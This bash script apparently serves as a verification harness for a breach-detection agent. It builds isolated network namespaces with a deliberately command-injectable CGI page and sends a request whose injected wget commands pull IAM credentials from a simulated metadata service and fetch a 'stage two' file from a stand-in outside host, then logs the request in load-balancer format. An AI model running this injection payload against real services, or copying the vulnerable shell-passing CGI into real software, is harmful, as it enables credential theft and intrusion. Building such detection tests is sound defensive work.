#!/usr/bin/env bash
# A web breach in network namespaces of its own, made of busybox's web server and a shell: nothing of Breachline's.
# Whichever agent runs on this host must catch it.
#
#   unshare --net bash chain.sh LOG
#
# In: LOG, the access log the agent follows; one line in the ALB format is added to it. Out: "done" when the breach went
# through; then the service stays up, as services do, until stdin ends. Everything it starts ends with it.
set -euo pipefail
log=$1
service=10.99.0.2:8080
outside=203.0.113.9
imds=169.254.169.254

work=$(mktemp -d)
# The victim is a unit of its own, as on a real host: its cgroup gives it its name.
slice=$(findmnt --noheadings --types cgroup2 --output TARGET | head -n 1)/breachline-verify.slice
end() {
    kill $(jobs -p) 2>/dev/null || true
    wait
    rm -rf "$work"
    # The kernel takes a moment to see a cgroup empty.
    for try in 1 2 3 4 5 6 7 8 9 10; do
        rmdir "$slice/shop.service" "$slice" 2>/dev/null && break
        sleep 0.1
    done
}
trap end EXIT

# A wire to a world of its own: a peer on the service's own host is no egress.
unshare --net busybox tail -f /dev/null &
world=$!
in_world() { nsenter --net="/proc/$world/ns/net" "$@"; }
until [ "$(readlink "/proc/$world/ns/net")" != "$(readlink /proc/self/ns/net)" ]; do :; done
ip link set lo up
ip link add wire type veth peer name wire netns "$world"
ip address add "${service%:*}/24" dev wire
ip link set wire up
in_world ip link set wire up
in_world ip link set lo up
in_world ip address add 10.99.0.1/24 dev wire
in_world ip address add "$imds/32" dev wire
# Answered for, not owned: what some interface of this host owns is no outside.
in_world ip route add local "${outside%.*}.0/24" dev lo
ip route add default via 10.99.0.1

# The service: a page that hands its parameter to a shell. Beside it the metadata service and the intruder's server.
mkdir -p "$work/service/cgi-bin" "$work/imds/latest/meta-data/iam/security-credentials" "$work/outside" "$slice/shop.service"
cat > "$work/service/cgi-bin/ping" <<'CGI'
#!/bin/sh
printf 'Content-Type: text/plain\r\n\r\n'
sh -c "echo pinging $(busybox httpd -d "${QUERY_STRING#host=}")" 2>&1
CGI
chmod 755 "$work/service/cgi-bin/ping"
echo '{"AccessKeyId":"EXAMPLE"}' > "$work/imds/latest/meta-data/iam/security-credentials/shop"
echo 'stage two' > "$work/outside/x"

(echo "$BASHPID" > "$slice/shop.service/cgroup.procs" && exec busybox httpd -f -p "$service" -h "$work/service") &
nsenter --net="/proc/$world/ns/net" busybox httpd -f -p "$imds:80" -h "$work/imds" &
nsenter --net="/proc/$world/ns/net" busybox httpd -f -p "$outside:80" -h "$work/outside" &
# Ready when all listen (state 0A). Not asked by connecting: a peer once contacted is no news.
deadline=$((SECONDS + 10))
until [ "$(cat /proc/self/net/tcp "/proc/$world/net/tcp" | grep -c ' 0A ')" -ge 3 ]; do
    [ "$SECONDS" -lt "$deadline" ] || { echo "the service does not listen" >&2; exit 1; }
done

# The request, as the balancer in front would send and log it.
credentials=http%3A//$imds/latest/meta-data/iam/security-credentials/shop
path="/cgi-bin/ping?host=shop%3Bbusybox+wget+-qO-+$credentials%3Bbusybox+wget+-qO-+http%3A//$outside/x"
received=$(date -u +%Y-%m-%dT%H:%M:%S.%6NZ)
answer=$(busybox wget -q -O - "http://$service$path")
completed=$(date -u +%Y-%m-%dT%H:%M:%S.%6NZ)
case $answer in
*EXAMPLE*'stage two'*) ;;
*) echo "the breach did not go through: $answer" >&2; exit 1 ;;
esac

arn=arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/shop/73e2d6bc24d8a067
line=(http "$completed" app/shop/50dc6c495c0c9188 198.51.100.7:41234 "$service" 0.001 0.020 0.000 200 200 240 512
    "\"GET http://shop.example:80$path HTTP/1.1\"" '"curl/8.5.0"' - - "$arn" '"Root=1-67891233-abcdef012345678912345678"'
    '"-"' '"-"' 0 "$received" '"forward"' '"-"' '"-"' "\"$service\"" '"200"' '"-"' '"-"')
echo "${line[*]}" >> "$log"
echo done
read -r || true
